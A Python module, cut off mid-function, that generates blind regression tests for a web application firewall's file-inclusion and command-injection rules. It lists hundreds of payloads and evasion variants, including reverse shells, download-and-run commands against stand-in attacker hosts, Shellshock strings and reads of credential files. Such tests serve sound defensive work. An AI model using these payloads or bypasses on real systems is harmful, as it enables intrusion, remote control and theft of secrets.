"""Blind positive tests for the CRS 3.3.4 remote-command-execution, local-file-inclusion and remote-file-inclusion
request rules of paranoia levels 1-2 (930100-932200) and the request-rule titles CRS 4.x added to those families,
written the way a rule author writes a rule's regression tests from its title, and then the bypasses that
published WAF-bypass write-ups and bug-bounty reports use against exactly that rule family.

The angle: a fourteenth author of these titles, who tests the bypasses. For each detection title: the canonical
attack the title names, one test per alternative of its family (every command, separator, file, wrapper, dialect
this author knows), then evasions that still work against the interpreter they target: quotes, backslashes, `$@`,
`${IFS}`, empty substitutions, globbing and brace expansion for POSIX shells; carets, quote pairs, `,;` delimiters,
delayed expansion, case mixing and tabs for cmd.exe; backtick escapes, string joins, `$env:ComSpec` indexing,
en-dashes and no-break spaces for PowerShell; single, double, overlong UTF-8, IIS `%u` and mixed-case percent
escapes, JSON unicode escapes and XML character references for paths; PHP parameter-name mangling, numeric IP
forms and scheme-relative links for remote inclusion.

Families and sub-families (one sub-family per title):
  lfi: path-traversal-encoded (930100), path-traversal-decoded (930110), os-file-access (930120),
       restricted-file-access (930130), os-file-access-headers and path-traversal-triple-dot (4.x);
  rfi: rfi-url-ip-address (931100), rfi-common-param-url (931110), rfi-trailing-question-mark (931120),
       rfi-off-domain-reference (931130);
  rce: unix-command-injection (932100), unix-command-injection-cont (932105), windows-command-injection (932110),
       windows-command-injection-cont (932115), powershell-command (932120), unix-shell-expression (932130),
       windows-for-if-command (932140), direct-unix-command (932150), unix-shell-code (932160),
       shellshock-headers (932170), shellshock-args (932171), restricted-file-upload (932180),
       rce-bypass-technique (932200), and from 4.x unix-cmd-no-evasion, unix-cmd-evasion-attempt,
       unix-shell-alias, unix-shell-history, unix-cmd-pipes-short, sqlite-system-command,
       smtp-imap-pop3-command, windows-cmd-evasion, unix-shell-code-headers, direct-unix-command-paths.

Placements: every payload is sent twice. Once to our real routes, rotating over the query of /api/users, the
admin search form (with csrf_token), a JSON or XML body of /api/users, a cookie, the User-Agent, the Referer,
another header, a parameter name, a multipart field or file name, and the URL path. Once the way a WAF's
regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get,
/post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names, as a query string, a form,
JSON or XML body, a raw form-typed body that is not key=value, a header or a cookie. Title-bound placements
are kept: Shellshock and the header titles go to headers, uploads to multipart file names and X-Filename,
restricted files to the URL path. A payload marked as wire text (already percent-encoded) goes out verbatim.

Authorship and independence: written from general knowledge and the rule titles alone; no rule, ruleset
regression test, public payload list or other blind set was read. Measured once on unchanged code.
Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredninth"


@dataclass(frozen=True)
class P:
    """One payload. `wire`: already encoded, sent verbatim; `only`: "json" / "xml" (raw text of that body only);
    `name`: the parameter name the payload needs."""

    text: str
    wire: bool = False
    only: str = ""
    name: str = ""


def W(text: str) -> P:
    return P(text, wire=True)


def J(text: str) -> P:
    return P(text, wire=True, only="json")


def X(text: str) -> P:
    return P(text, wire=True, only="xml")


def N(name: str, text: str) -> P:
    return P(text, name=name)


Spec = str | P

# ---------------------------------------------------------------------------------------------------- LFI
PATH_TRAVERSAL_ENCODED: list[Spec] = [
    W("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    W("%2E%2E%2F%2E%2E%2F%2E%2E%2Fwindows%2Fwin.ini"),
    W("..%2f..%2f..%2f..%2fetc%2fhosts"),
    W("%2e%2e/%2e%2e/%2e%2e/etc/shadow"),
    W("%2e%2E%2F%2E%2e%2f..%2Fetc%2fgroup"),
    W("%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    W("..%252f..%252f..%252fboot.ini"),
    W("%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    W("..%c0%af..%c0%af..%c0%afwinnt%c0%afsystem32%c0%afcmd.exe"),
    W("..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    W("%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    W("..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config"),
    W("%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
    W("..%255c..%255c..%255cwindows%255cwin.ini"),
    J("\\u002e\\u002e\\u002f\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"),
    X("&#46;&#46;&#47;&#46;&#46;&#47;&#x2e;&#x2e;&#x2f;etc&#x2f;passwd"),
    "&#46;&#46;&#47;&#46;&#46;&#47;etc&#47;passwd",
    "&#x2e&#x2e&#x2f&#x2e&#x2e&#x2fetc&#x2fpasswd",
]

PATH_TRAVERSAL_DECODED: list[Spec] = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "/var/www/html/../../../etc/passwd",
    "..//..//..//..//etc/passwd",
    "../..\\../..\\windows/system32/drivers/etc/hosts",
    "./../.././../etc/passwd",
    "..;/..;/..;/WEB-INF/web.xml",
    "../../../../etc/passwd\x00.png",
    "..\\..\\..\\..\\boot.ini",
    "images/../../../../../../etc/hosts",
    "../../../../../../../../../../../../etc/passwd",
    "../../../../proc/self/cwd/config.php",
    "\\..\\..\\..\\..\\windows\\system32\\config\\sam",
    "templates/../../../../../../usr/local/etc/php.ini",
]

OS_FILE_ACCESS: list[Spec] = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/etc/group",
    "/root/.ssh/id_rsa",
    "/var/log/apache2/access.log",
    "C:\\Windows\\win.ini",
    "c:/windows/system32/drivers/etc/hosts",
    "C:\\boot.ini",
    "/etc//passwd",
    "/./etc/./shadow",
    "///etc///passwd",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=/etc/passwd",
    W("%2fetc%2fpasswd"),
    W("/etc/passwd%00"),
    "C:\\WINDOWS\\WIN.INI",
    "\\\\?\\C:\\Windows\\win.ini",
    "/proc/1/cmdline",
]

RESTRICTED_FILE_ACCESS: list[Spec] = [
    ".env",
    ".git/config",
    ".git/HEAD",
    ".htaccess",
    ".htpasswd",
    "web.config",
    "wp-config.php",
    ".svn/entries",
    ".DS_Store",
    ".bash_history",
    ".aws/credentials",
    ".hg/hgrc",
    ".git//config",
    W(".%67it/config"),
    W("%2e%65%6e%76"),
    ".GIT/CONFIG",
    "WEB.CONFIG",
    ".env;.css",
    "web.config::$DATA",
    ".git/./HEAD",
    "web.config.",
]

OS_FILE_ACCESS_HEADERS: list[Spec] = [
    "/etc/passwd",
    "http://ref.example/view?file=/etc/passwd",
    "../../../../etc/shadow",
    "/proc/self/environ",
    "C:\\Windows\\win.ini",
    "/proc/self/cmdline",
    "/var/log/nginx/access.log",
    "/root/.bash_history",
    "/etc/group",
    "WEB-INF/web.xml",
    "/etc//./passwd",
    "/etc/issue",
    "c:\\boot.ini",
]

PATH_TRAVERSAL_TRIPLE_DOT: list[Spec] = [
    ".../.../.../etc/passwd",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "...\\...\\...\\windows\\win.ini",
    W("%2e%2e%2e/%2e%2e%2e/etc/passwd"),
    "..../..../..../etc/passwd",
    "/.../.../etc/hosts",
    "....//....//proc/self/environ",
    "....\\/....\\/....\\/windows/win.ini",
    W("....%2f%2f....%2f%2f....%2f%2fetc%2fpasswd"),
    "..././..././WEB-INF/web.xml",
]

# ---------------------------------------------------------------------------------------------------- RFI
RFI_IP: list[Spec] = [
    "http://203.0.113.7/shell.txt",
    "https://198.51.100.23/c99.php",
    "ftp://203.0.113.50/pub/x.txt",
    "http://203.0.113.7:8080/inc.txt?",
    "HtTp://203.0.113.7/r57.txt",
    "http://0xcb.0x00.0x71.0x07/x.txt",
    "http://3405803783/shell.txt",
    "http://0313.0.0161.07/x.txt",
    "http://[::ffff:203.0.113.7]/x.txt",
    "http://guest@203.0.113.7/x.txt",
    "\\\\203.0.113.7\\share\\x.php",
    "//203.0.113.7/x.txt",
    W("http%3a%2f%2f203.0.113.7%2fshell.txt"),
    "https://203.0.113.7/x.php\x00",
]

RFI_PARAM: list[Spec] = [
    N("mosConfig_absolute_path", "http://evil.example/r57.txt?"),
    N("_CONF[path]", "http://evil.example/x.txt?"),
    N("_SERVER[DOCUMENT_ROOT]", "http://evil.example/x.txt?"),
    N("GALLERY_BASEDIR", "http://evil.example/shell.txt?"),
    N("path[docroot]", "http://evil.example/x.txt"),
    N("appserv_root", "http://evil.example/x.txt?"),
    N("config[root_dir]", "https://evil.example/x.txt"),
    N("phpbb_root_path", "http://evil.example/x.txt?"),
    N("include", "ftp://evil.example/x.txt"),
    N("page", "http://evil.example/shell.txt"),
    N("include_path", "https://evil.example/"),
    N("_PHPLIB[libdir]", "http://evil.example/x.txt?"),
    N("mosConfig.absolute.path", "http://evil.example/r57.txt?"),
    N("GALLERY.BASEDIR", "HTTP://EVIL.EXAMPLE/shell.txt?"),
    N("q", "include(\"http://evil.example/x.txt\")"),
]

RFI_QMARK: list[Spec] = [
    "http://evil.example/shell.txt?",
    "https://evil.example/x.php?",
    "ftp://evil.example/x.txt?",
    "http://evil.example/r57.txt??",
    "http://evil.example/x.txt?&",
    "HTTP://EVIL.EXAMPLE/X.TXT?",
    "http://evil.example:8080/inc/config.txt?",
    "http://evil.example/shell.txt?\x00",
    W("http%3A%2F%2Fevil.example%2Fshell.txt%3F"),
    W("http%3a//evil.example/c99.txt%3f"),
    "https://raw.evil.example/kit/cmd.txt?",
    "//evil.example/shell.txt?",
]

RFI_OFF_DOMAIN: list[Spec] = [
    "http://evil.example/shell.txt",
    "https://attacker.example/x.php",
    "ftp://files.attacker.example/x.txt",
    "ftps://files.attacker.example/x.txt",
    "//attacker.example/x.txt",
    "HTTPS://Attacker.Example/x",
    "http://trusted.example@attacker.example/x.txt",
    "php://filter/resource=http://attacker.example/x.txt",
    "compress.zlib://http://attacker.example/x.gz",
    "https://attacker.example/x.txt#",
    "http://attacker.example/shell.txt\x00",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
]

# ---------------------------------------------------------------------------------------------------- RCE
UNIX_CMDI: list[Spec] = [
    ";cat /etc/passwd",
    "; ls -la /var/www",
    "| id",
    "&& uname -a",
    ";wget http://evil.example/x.sh -O /tmp/x.sh",
    "|curl -s http://evil.example/x|sh",
    "; nc -e /bin/sh 203.0.113.7 4444",
    "\nwhoami",
    "a;c\\at /etc/passwd",
    "; c''at /etc/passwd",
    ";{cat,/etc/passwd}",
    ";cat${IFS}/etc/passwd",
    "|\tid",
    W("%0acat%20/etc/passwd"),
    "127.0.0.1;id",
]

UNIX_CMDI_CONT: list[Spec] = [
    "127.0.0.1 | ping -c 10 127.0.0.1",
    "&& sleep 10",
    "|| nslookup x.evil.example",
    "; python -c 'import os;os.system(\"id\")'",
    "; perl -e 'system(\"id\")'",
    "| php -r 'system(\"id\");'",
    "; bash -c 'id'",
    "; chmod 777 /tmp/x",
    "| base64 /etc/passwd",
    "; ruby -e 'exec \"id\"'",
    "; echo aWQ= | base64 -d | sh",
    "||p\"i\"ng -c 5 127.0.0.1",
    "&&sl$@eep 10",
    "|tail${IFS}-n1${IFS}/etc/passwd",
]

WIN_CMDI: list[Spec] = [
    "& dir c:\\",
    "| type C:\\Windows\\win.ini",
    "&& net user",
    "| ipconfig /all",
    "& whoami /priv",
    "&& systeminfo",
    "| tasklist /v",
    "& netstat -ano",
    "& w^h^o^a^m^i",
    "&who\"\"ami",
    "&;,whoami",
    "& %COMSPEC% /c ver",
    "|C:\\Windows\\System32\\whoami.exe",
    "& cmd /v:on /c \"set a=who&&set b=ami&&!a!!b!\"",
    "| WHOAMI",
    "&\twhoami",
]

WIN_CMDI_CONT: list[Spec] = [
    "& certutil -urlcache -split -f http://evil.example/a.exe C:\\Windows\\Temp\\a.exe",
    "| bitsadmin /transfer j http://evil.example/a.exe C:\\Temp\\a.exe",
    "& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "&& wmic process call create calc.exe",
    "| schtasks /create /tn x /tr calc.exe /sc once /st 00:00",
    "& net localgroup administrators",
    "& nslookup evil.example",
    "| findstr /si secret *.config",
    "& mshta http://evil.example/x.hta",
    "& rundll32.exe shell32.dll,ShellExec_RunDLL calc.exe",
    "& regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
    "& CeRtUtIl -decode a.b64 a.exe",
    "& c^e^r^t^u^t^i^l -urlcache -f http://evil.example/a a.exe",
    "| ping -n 10 127.0.0.1",
    "&& copy \\\\evil.example\\share\\nc.exe %TEMP%",
]

POWERSHELL: list[Spec] = [
    "; powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"",
    "| powershell.exe -ExecutionPolicy Bypass -File \\\\evil.example\\s\\a.ps1",
    "& powershell -EncodedCommand dwBoAG8AYQBtAGkA",
    "& pwsh -c Get-ChildItem C:\\",
    "Invoke-WebRequest -Uri http://evil.example/a.exe -OutFile a.exe",
    "Start-Process calc.exe",
    "Invoke-Expression (iwr http://evil.example/a -UseBasicParsing).Content",
    "& PoWeRsHeLl -NoP -c whoami",
    "Inv`oke-Ex`pres`sion (New-Ob`ject Net.Web`Client).Downl`oadString('http://evil.example/a')",
    "& ('ie'+'x') 'whoami'",
    ".( $env:ComSpec[4,15,25]-join'') 'whoami'",
    "powershell -e dwBoAG8AYQBtAGkA",
    "[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA'))|iex",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "powershell \u2013nop \u2013c whoami",
    "Invoke-Expression\u00a0'whoami'",
]

UNIX_SHELL_EXPR: list[Spec] = [
    "$(cat /etc/passwd)",
    "`id`",
    "$(whoami)",
    "<(curl -s http://evil.example/x)",
    "cat /etc/passwd > >(nc evil.example 80)",
    "$((1337*7))",
    "${PATH:0:1}etc${PATH:0:1}passwd",
    "$( id )",
    "$(\tid)",
    "$(c''at /etc/passwd)",
    "`ca\\t /etc/passwd`",
    "$($(printf '\\151\\144'))",
    "$(echo aWQ=|base64 -d|sh)",
    W("%24%28id%29"),
    "; $'\\x69\\x64'",
]

WIN_FOR_IF: list[Spec] = [
    "& for /f \"tokens=*\" %i in ('whoami') do @echo %i",
    "| for /l %i in (1,1,20) do ping -n 1 127.0.0.1",
    "&& for /r C:\\ %f in (*.config) do type %f",
    "& for /d %d in (C:\\Users\\*) do dir %d",
    "& if exist C:\\Windows\\win.ini type C:\\Windows\\win.ini",
    "& if not exist C:\\x.txt (net user)",
    "& if defined USERNAME echo %USERNAME%",
    "&& if errorlevel 0 whoami",
    "& FoR /F %a In ('dir /b') Do @echo %a",
    "&\tfor\t/f %a in ('ver') do echo %a",
    "& cmd /c for /f %a in ('whoami') do nslookup %a.evil.example",
    "& if /i \"%OS%\"==\"Windows_NT\" whoami",
    "& for %a in (whoami) do %a",
    "& IF EXIST %SystemRoot%\\system32\\cmd.exe (ver)",
]

DIRECT_UNIX: list[Spec] = [
    "cat /etc/passwd",
    "id",
    "uname -a",
    "wget http://evil.example/x.sh",
    "curl -o /tmp/x http://evil.example/x",
    "nc -lvp 4444 -e /bin/sh",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "c\\at /etc/passwd",
    "ca''t /etc/passwd",
    "w'h'o'a'm'i",
    "l\"s\" -la",
    "who$@ami",
    "ls${IFS}-la",
    "sh -c id",
]

UNIX_SHELL_CODE: list[Spec] = [
    "/bin/bash -c id",
    ";/bin/sh -i",
    "/usr/bin/id",
    "/bin/cat /etc/passwd",
    "/usr/bin/wget http://evil.example/x",
    "/bin/nc -e /bin/sh 203.0.113.7 4444",
    "/usr/bin/perl -e 'print 1'",
    "/bin/b''ash -c id",
    "/bin/ba\\sh -c id",
    "/bin//sh -c id",
    "/bin/./bash -p",
    "/usr/bin/env python3 -c 'import os;os.system(\"id\")'",
    "/usr/bin/zsh -c id",
    "; $'\\x2fbin\\x2fsh' -c id",
    "/bin/$@bash -c id",
]

SHELLSHOCK_HEADERS: list[Spec] = [
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; echo; /usr/bin/id",
    "() { _; } >_[$($())] { echo vulnerable; id; }",
    "() { 0; }; ping -c 3 203.0.113.7",
    "() { :; }; echo Content-Type: text/plain; echo; /bin/cat /etc/shadow",
    "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "() { x;};curl -s http://evil.example/x|sh",
    "() { :;}; sleep 10",
    "() { (a)=>\\",
    "() {\t:; }; id",
    "() { :; }; /???/??t /etc/passwd",
    "() {  ignored;};  /usr/bin/wget http://evil.example/x",
]

SHELLSHOCK_ARGS: list[Spec] = [
    "() { :;}; /bin/cat /etc/passwd",
    "() { :; }; /usr/bin/id",
    "() { _;} ; sleep 5",
    "() { :; }; /bin/sh -c 'nc 203.0.113.7 4444 -e /bin/sh'",
    "() { foo;};echo;/bin/uname -a",
    "() { :;};curl http://evil.example/$(whoami)",
    "() { (a)=>\\",
    "() {\t:;\t};\tid",
    W("%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fid"),
    "() { :; }; /b'i'n/c'a't /etc/passwd",
    "() { :; }; echo x | /bin/bash",
]

RESTRICTED_UPLOAD: list[Spec] = [
    ".htaccess",
    ".htpasswd",
    "web.config",
    ".user.ini",
    "php.ini",
    "wp-config.php",
    "global.asa",
    ".htdigest",
    ".HTACCESS",
    "Web.Config",
    "web.config.",
    "web.config::$DATA",
    ".htaccess ",
    "../.htaccess",
    "uploads\\..\\web.config",
]

RCE_BYPASS: list[Spec] = [
    "c''at /e't'c/pa''sswd",
    "c\\a\\t /e\\t\\c/p\\a\\s\\s\\w\\d",
    "/b??/c?t /e??/p?ss??",
    "/bin/c[a]t /etc/pass[w]d",
    "c$@at /etc/pa$@sswd",
    "ca${u}t /etc/passwd",
    "who$()ami",
    "wh``oami",
    "cat /et*/pa*wd",
    "bash<<<$(base64 -d<<<aWQ=)",
    "cat</etc/passwd",
    "X=$'cat\\x20/etc/passwd'&&$X",
    "a=c;b=at;$a$b /etc/passwd",
    "cat$IFS$9/etc/passwd",
    "echo${IFS}aWQ=|base64${IFS}-d|sh",
]

UNIX_NO_EVASION: list[Spec] = [
    "; ls /",
    "| cat /etc/hosts",
    "&& id",
    "|| whoami",
    "; uname -r",
    "; ps aux",
    "| env",
    "; find / -perm -4000",
    "; awk 'BEGIN{system(\"id\")}'",
    "; getent passwd",
    "; tar cf - /etc | nc 203.0.113.7 9",
    "\nifconfig",
    "; useradd backdoor",
    "| printenv",
]

UNIX_EVASION: list[Spec] = [
    "; $(printf '\\x63\\x61\\x74') /etc/passwd",
    "; ${PATH%%u*}bin${PATH%%u*}cat /etc/passwd",
    "; `echo Y2F0IC9ldGMvcGFzc3dk|base64 -d`",
    "; rev<<<'dwssap/cte/ tac'|sh",
    "; cat /e\"t\"c/pa's'swd",
    "; c${@}at /etc/passwd",
    "; \\c\\a\\t /etc/passwd",
    "; ca$'\\x74' /etc/passwd",
    "; ca\\\nt /etc/passwd",
    "; {c,}at /etc/passwd",
    "; /usr/bin/ca? /etc/pass*",
    "; w$(:)hoami",
    "|$u\tcat /etc/passwd",
]

UNIX_ALIAS: list[Spec] = [
    "; alias x='cat /etc/passwd'",
    "| alias ls='id'",
    "&& alias",
    "\nalias x=id\nx",
    "`alias -p`",
    "$(alias l='ls -la')",
    "; unalias -a",
    "; \\alias x=id",
    "; al''ias x=whoami",
    "; a\\lias sudo='nc 203.0.113.7 4444 -e /bin/sh'",
    "; alias\tx=id",
]

UNIX_HISTORY: list[Spec] = [
    ";!-1",
    "|!!",
    "&&!-2",
    "; !$",
    "`!-1`",
    "; !#",
    "; !ca",
    "; !?passwd?",
    "; ^foo^bar",
    "; fc -s",
    "; history | tail -n 50",
]

PIPES_SHORT: list[Spec] = [
    "|id",
    ";ls",
    "|ps",
    "&&w",
    ";df -h",
    "|nc 203.0.113.7 80",
    "|sh",
    ";su",
    "|od -c /etc/passwd",
    "|dd if=/etc/passwd",
    "; at now",
    "|xxd /etc/shadow",
    "|i\\d",
    ";l's'",
]

SQLITE_CMD: list[Spec] = [
    "\n.system id",
    "\n.shell cat /etc/passwd",
    "x\n.system ls -la",
    "\n.sh id",
    "\n.sys whoami",
    "\n.output '|nc 203.0.113.7 4444'",
    "\n.once '|id'",
    "\n.import '|id' t",
    "\n.load /tmp/evil.so",
    "SELECT load_extension('/tmp/evil.so','sqlite3_evil_init')",
    "SELECT edit('', 'id')",
    "\r\n.system id",
    "\n.system\tid",
    W("%0a.system%20id"),
]

MAIL_CMD: list[Spec] = [
    "\r\nRCPT TO:<victim@evil.example>",
    "\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<a@b.example>\r\nDATA\r\n",
    "\r\nVRFY root",
    "\r\nEXPN admins",
    "\r\nHELO evil.example",
    "\r\nA1 LOGIN admin hunter2",
    "\r\nA2 SELECT INBOX",
    "\r\nA3 FETCH 1:* (BODY[])",
    "\r\na4 UID FETCH 1:* RFC822",
    "\r\nA5 LIST \"\" \"*\"",
    "\r\nUSER admin\r\nPASS hunter2",
    "\r\nRETR 1",
    "\r\nDELE 1",
    "\nrcpt to:<x@evil.example>",
    W("%0d%0aRCPT%20TO:%3cvictim@evil.example%3e"),
    W("%0D%0AA1%20LOGIN%20admin%20hunter2"),
]

WIN_EVASION: list[Spec] = [
    "; cmd /c who^ami",
    "| c^m^d /c ver",
    "& \"C:\\Windows\\System32\\cmd.exe\" /c whoami",
    "& cmd.exe /c \"n^et u^ser\"",
    "& %SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c whoami",
    "| p^o^w^e^r^s^h^e^l^l -c whoami",
    "& cmd,/c,whoami",
    "& cmd /V /C \"set x=whoami&&!x!\"",
    "& \"c\"\"m\"\"d\" /c whoami",
    "& cmd /c \"who\"\"ami\"",
    "& powershell -nop -c \"$c='who'+'ami';iex $c\"",
    "& CmD.eXe /C WhOaMi",
    "&\tcmd\t/c\twhoami",
    "& powershell -c \"&(gcm *ke-E*) whoami\"",
]

SHELL_CODE_HEADERS: list[Spec] = [
    "/bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "$(curl -s http://evil.example/x|sh)",
    "`wget -qO- http://evil.example/x|sh`",
    "; /bin/sh -c id",
    "|/usr/bin/nc 203.0.113.7 4444 -e /bin/sh",
    "/bin/cat /etc/passwd",
    "Mozilla/5.0 $(id)",
    "curl/7.88.1 `id`",
    "python-requests/2.31 ; /bin/busybox wget http://evil.example/x",
    "/usr/bin/perl -e 'exec \"/bin/sh\"'",
    "http://ref.example/';/bin/bash -c id;'",
    "\"/bin/b''ash\" -c id",
]

DIRECT_UNIX_PATHS: list[Spec] = [
    "/???/c?t /???/p?ss??",
    "/bin/c*t /etc/pa*wd",
    "/usr/bin/w??et http://evil.example/x",
    "/?s?/b??/i?",
    "/bin/n[c] -e /bin/sh 203.0.113.7 4444",
    "/sbin/ifconfig",
    "/usr/bin/python3 -c 'print(1)'",
    "/usr/local/bin/node -e 'require(\"child_process\").execSync(\"id\")'",
    "/usr/bin/base64 /etc/shadow",
    "/bin/busybox nc 203.0.113.7 4444 -e sh",
    "/usr/bin/find / -name id_rsa",
    "/b[i]n/l[s] -la /",
    "{/bin/cat,/etc/passwd}",
]

# ------------------------------------------------------------------------------------------------ placements
OURS_ALL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
            "param-name", "xml", "multipart-field", "multipart-filename", "path"]
OURS_ARGS = ["query", "form", "json", "xml", "multipart-field", "cookie", "header:Referer", "path"]
OURS_RFI = ["query", "form", "json", "xml", "multipart-field", "cookie"]
OURS_HDR = ["header:User-Agent", "header:Referer", "header:X-Api-Version", "cookie"]
OURS_FILES = ["path", "query", "json"]
OURS_UPLOAD = ["multipart-filename", "multipart-filename", "header:X-Filename"]
OURS_SHOCK_ARGS = ["query", "form", "json", "multipart-field", "param-name", "multipart-filename"]
RS_ALL = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
          "rs-header:X-Custom-Header", "rs-cookie"]
RS_ARGS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body"]
RS_HDR = ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom-Header", "rs-cookie"]
RS_FILES = ["rs-path", "rs-query"]
RS_UPLOAD = ["rs-multipart-filename", "rs-multipart-filename", "rs-header:X-File-Name"]

LFI_NAMES = ["file", "page", "path", "template", "doc", "lang"]
RFI_NAMES = ["url", "src", "page", "feed", "next", "load"]
RCE_NAMES = ["q", "host", "cmd", "ip", "name", "filter", "domain"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]

# (category, sub, payloads, ours pool, rs pool, our parameter names)
SUBS: list[tuple[str, str, list[Spec], list[str], list[str], list[str]]] = [
    ("lfi", "path-traversal-encoded", PATH_TRAVERSAL_ENCODED, OURS_ARGS, RS_ARGS, LFI_NAMES),
    ("lfi", "path-traversal-decoded", PATH_TRAVERSAL_DECODED, OURS_ARGS, RS_ALL, LFI_NAMES),
    ("lfi", "os-file-access", OS_FILE_ACCESS, OURS_ARGS, RS_ALL, LFI_NAMES),
    ("lfi", "restricted-file-access", RESTRICTED_FILE_ACCESS, OURS_FILES, RS_FILES, LFI_NAMES),
    ("lfi", "os-file-access-headers", OS_FILE_ACCESS_HEADERS, OURS_HDR, RS_HDR, LFI_NAMES),
    ("lfi", "path-traversal-triple-dot", PATH_TRAVERSAL_TRIPLE_DOT, OURS_ARGS, RS_ALL, LFI_NAMES),
    ("rfi", "rfi-url-ip-address", RFI_IP, OURS_RFI, RS_ARGS, RFI_NAMES),
    ("rfi", "rfi-common-param-url", RFI_PARAM, OURS_RFI, RS_ARGS, RFI_NAMES),
    ("rfi", "rfi-trailing-question-mark", RFI_QMARK, OURS_RFI, RS_ARGS, RFI_NAMES),
    ("rfi", "rfi-off-domain-reference", RFI_OFF_DOMAIN, OURS_RFI, RS_ARGS, RFI_NAMES),
    ("rce", "unix-command-injection", UNIX_CMDI, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "unix-command-injection-cont", UNIX_CMDI_CONT, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "windows-command-injection", WIN_CMDI, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "windows-command-injection-cont", WIN_CMDI_CONT, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "powershell-command", POWERSHELL, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "unix-shell-expression", UNIX_SHELL_EXPR, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "windows-for-if-command", WIN_FOR_IF, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "direct-unix-command", DIRECT_UNIX, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "unix-shell-code", UNIX_SHELL_CODE, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "shellshock-headers", SHELLSHOCK_HEADERS, OURS_HDR, RS_HDR, RCE_NAMES),
    ("rce", "shellshock-args", SHELLSHOCK_ARGS, OURS_SHOCK_ARGS, RS_ARGS, RCE_NAMES),
    ("rce", "restricted-file-upload", RESTRICTED_UPLOAD, OURS_UPLOAD, RS_UPLOAD, RCE_NAMES),
    ("rce", "rce-bypass-technique", RCE_BYPASS, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "unix-cmd-no-evasion", UNIX_NO_EVASION, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "unix-cmd-evasion-attempt", UNIX_EVASION, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "unix-shell-alias", UNIX_ALIAS, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "unix-shell-history", UNIX_HISTORY, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "unix-cmd-pipes-short", PIPES_SHORT, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "sqlite-system-command", SQLITE_CMD, OURS_ARGS, RS_ARGS, RCE_NAMES),
    ("rce", "smtp-imap-pop3-command", MAIL_CMD, OURS_ARGS, RS_ARGS, ["to", "email", "subject", "user", "mailbox"]),
    ("rce", "windows-cmd-evasion", WIN_EVASION, OURS_ALL, RS_ALL, RCE_NAMES),
    ("rce", "unix-shell-code-headers", SHELL_CODE_HEADERS, OURS_HDR, RS_HDR, RCE_NAMES),
    ("rce", "direct-unix-command-paths", DIRECT_UNIX_PATHS, OURS_ALL, RS_ALL, RCE_NAMES),
]

BOUNDARY = "----WebKitFormBoundaryq8Hn2VkRzT4pW1xL"


def _spec(s: Spec) -> P:
    return s if isinstance(s, P) else P(s)


def _enc(p: P) -> str:
    """The payload as it sits in a URL or form value."""
    return p.text if p.wire else urllib.parse.quote(p.text, safe="")


def _header_safe(text: str) -> bool:
    return all(c == "\t" or 0x20 <= ord(c) < 0x7F for c in text)


def _fits(place: str, p: P) -> bool:
    bare = place.removeprefix("rs-")
    if p.only:
        return bare == p.only
    if bare.startswith("header:"):
        return _header_safe(p.text)
    if bare == "multipart-filename":
        return _header_safe(p.text) and '"' not in p.text
    if bare == "xml":
